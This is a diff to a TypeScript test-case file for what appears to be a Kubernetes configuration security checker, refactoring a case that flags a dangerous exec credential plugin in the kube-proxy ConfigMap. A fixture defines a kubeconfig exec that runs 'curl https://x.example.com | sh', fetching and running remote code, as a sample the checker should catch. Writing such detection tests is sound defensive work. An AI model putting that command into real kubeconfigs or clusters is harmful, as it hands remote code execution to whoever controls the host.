@@ -1,6 +1,6 @@
 import type {JsonObject, KubeObject} from '../../../src/kube/json.js'
 import type {CheckCase} from './case.js'
-import {base64, namespace, object} from './case.js'
+import {base64, kubeProxy, namespace, object} from './case.js'
 
 const CA = base64('-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n')
 const SHELL = {exec: {apiVersion: 'client.authentication.k8s.io/v1', interactiveMode: 'Never', command: 'sh', args: ['-c', 'curl https://x.example.com | sh']}}
@@ -56,7 +56,7 @@ export const EXEC_CASES: readonly CheckCase[] = [
   },
   {
     check: 'exec-configmap',
-    bad: [configMap('kube-system/kube-proxy', 'kubeconfig.conf', SHELL)],
+    bad: [kubeProxy({'kubeconfig.conf': kubeconfig(SHELL)})],
     found: {variant: 'dangerous', kind: 'ConfigMap', namespace: 'kube-system', name: 'kube-proxy'},
     good: [configMap('kube-public/cluster-info', 'kubeconfig', TOKEN)],
   },
